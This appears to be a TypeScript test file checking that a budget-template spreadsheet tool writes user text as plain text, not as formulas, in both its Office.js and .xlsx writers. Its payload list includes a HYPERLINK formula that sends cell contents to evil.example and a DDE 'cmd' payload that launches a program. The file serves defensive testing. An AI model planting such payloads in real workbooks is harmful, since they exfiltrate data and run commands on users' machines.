/*
 * Formula injection: a text that reaches a workbook from the user's inputs (the unit's
 * name, the 项目绩效表's 项目名称 and 预算单位 and indicators taken from a narrative or a
 * data file, the 说明's paragraphs, a reviewer's waiver) must stay text in both writers,
 * whatever it starts with. In Excel, a string written through Range.values or .formulas
 * into a cell not formatted as text becomes a formula when it starts with =, + or -; the
 * simulated host models that (test/support/sim-excel/state.ts, `enter`).
 */
import ExcelJS from "exceljs";
import { buildTemplateBook } from "../../src/core/templates/book";
import { emptyFillData } from "../../src/core/templates/fill-data";
import { layoutWorkbook, type WorkbookLayout } from "../../src/core/templates/layout";
import { renderWorkbook, workbookBuffer } from "../../src/cli/xlsx/write-workbook";
import { insertTemplates } from "../../src/excel/insert-templates";
import { NARRATIVE_SHEET, writeNarrative } from "../../src/excel/narrative-sheet";
import { readState, saveWaiver, STATE_SHEET } from "../../src/excel/workbook-state";
import { createSimExcel, simRun } from "../support/sim-excel/pane";
import { holdsFormula, type SimWorkbookState } from "../support/sim-excel/state";
import { seedFill } from "../core/templates/fixtures/seed-values";

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(1,2)",
  "  =1+1",
  "\t=1+1",
  "＝1+1",
  "=cmd|' /C calc'!A0",
];

const isPayload = (v: unknown): v is string =>
  typeof v === "string" && PAYLOADS.some((p) => v.includes(p));

/** The seed's tables with a payload in every text input: the unit and each text cell. */
function injectedLayout(shift = 0): WorkbookLayout {
  const textKeys = buildTemplateBook(emptyFillData())
    .models.flatMap((m) => m.cells)
    .filter((c) => c.text)
    .map((c) => c.key);
  const data = seedFill();
  textKeys.forEach((key, i) => data.texts.set(key, PAYLOADS[(i + shift) % PAYLOADS.length]));
  return layoutWorkbook(buildTemplateBook(data, { unit: PAYLOADS[shift % PAYLOADS.length] }));
}

/** Every cell of the layout whose text carries a payload. */
function payloadCells(layout: WorkbookLayout) {
  return layout.sheets.flatMap((s) =>
    s.cells
      .filter((c) => c.kind !== "formula" && isPayload(c.value))
      .map((c) => ({ sheet: s.name, address: c.address, text: c.value as string })),
  );
}

async function shown(sim: ReturnType<typeof createSimExcel>, sheet: string, address: string) {
  return simRun(sim)(async (ctx) => {
    const range = ctx.workbook.worksheets.getItem(sheet).getRange(address).load("values");
    await ctx.sync();
    return range.values[0][0] as unknown;
  });
}

function expectText(state: SimWorkbookState, sheet: string, address: string, text: string) {
  const cell = state.cell(sheet, address);
  expect({ at: `${sheet}!${address}`, content: cell?.content }).toEqual({
    at: `${sheet}!${address}`,
    content: text,
  });
  expect({ at: `${sheet}!${address}`, formula: holdsFormula(cell) }).toEqual({
    at: `${sheet}!${address}`,
    formula: false,
  });
}

describe("text never becomes a formula: the Office.js writers", () => {
  it("writes every text input of the templates as text, in a cell formatted as text", async () => {
    const sim = createSimExcel();
    const layout = injectedLayout();
    const cells = payloadCells(layout);
    // The unit's line on each table, and every text cell of the performance table.
    expect(cells.filter((c) => c.sheet === "项目绩效表").length).toBeGreaterThan(10);
    expect(cells.filter((c) => c.text.startsWith("部门：")).length).toBeGreaterThanOrEqual(9);
    await simRun(sim)((ctx) => insertTemplates(ctx, layout));
    for (const c of cells) {
      expectText(sim.state, c.sheet, c.address, c.text);
      expect(sim.state.cell(c.sheet, c.address)?.numberFormat).toBe("@");
    }
    const perf = cells.find((c) => c.text.startsWith("=HYPERLINK"))!;
    expect(await shown(sim, perf.sheet, perf.address)).toBe(perf.text);
    // The template's own formulas are still formulas.
    expect(holdsFormula(sim.state.cell("公开01表", "C32"))).toBe(true);
  });

  it("keeps them text when they change, and turns an older writer's live formula back into text", async () => {
    const sim = createSimExcel();
    await simRun(sim)((ctx) => insertTemplates(ctx, injectedLayout()));
    // What the previous writer left: the same characters as a live formula.
    const first = payloadCells(injectedLayout()).filter((c) => c.text.startsWith("="));
    for (const c of first) {
      sim.state.cell(c.sheet, c.address)!.numberFormat = "General";
      sim.state.cell(c.sheet, c.address)!.text = false;
    }
    expect(holdsFormula(sim.state.cell(first[0].sheet, first[0].address))).toBe(true);
    await simRun(sim)((ctx) => insertTemplates(ctx, injectedLayout()));
    for (const c of first) expectText(sim.state, c.sheet, c.address, c.text);

    const next = injectedLayout(1);
    await simRun(sim)((ctx) => insertTemplates(ctx, next, { overwrite: true }));
    for (const c of payloadCells(next)) expectText(sim.state, c.sheet, c.address, c.text);
  });

  it("writes the 说明 paragraphs and a waiver's fields as text", async () => {
    const sim = createSimExcel();
    await simRun(sim)((ctx) => writeNarrative(ctx, PAYLOADS));
    PAYLOADS.forEach((p, i) => expectText(sim.state, NARRATIVE_SHEET, `A${i + 2}`, p));
    const [rule, text, message, who, when, why] = PAYLOADS;
    await simRun(sim)((ctx) => saveWaiver(ctx, { rule, text, message, who, when, why }));
    const state = await simRun(sim)((ctx) => readState(ctx));
    expect(state.waivers).toEqual([{ rule, text, message, who, when, why }]);
    for (const row of sim.state.sheet(STATE_SHEET)!.cells.values())
      expect(holdsFormula(row)).toBe(false);
  });
});

/** An exceljs cell as plain data. */
function xlsxCell(wb: ExcelJS.Workbook, sheet: string, address: string) {
  const { type, value, numFmt } = wb.getWorksheet(sheet)!.getCell(address);
  return { type, value, numFmt };
}

describe("text never becomes a formula: the .xlsx writer", () => {
  it("writes every text input as a string, formatted as text", async () => {
    const layout = injectedLayout();
    const buffer = await workbookBuffer(renderWorkbook(layout.sheets, layout.names));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ArrayBuffer);
    const cells = payloadCells(layout);
    expect(cells.length).toBeGreaterThan(20);
    for (const c of cells) {
      expect({ at: `${c.sheet}!${c.address}`, ...xlsxCell(wb, c.sheet, c.address) }).toEqual({
        at: `${c.sheet}!${c.address}`,
        type: ExcelJS.ValueType.String,
        value: c.text,
        numFmt: "@",
      });
    }
    expect(xlsxCell(wb, "公开01表", "C32").type).toBe(ExcelJS.ValueType.Formula);
  });
});
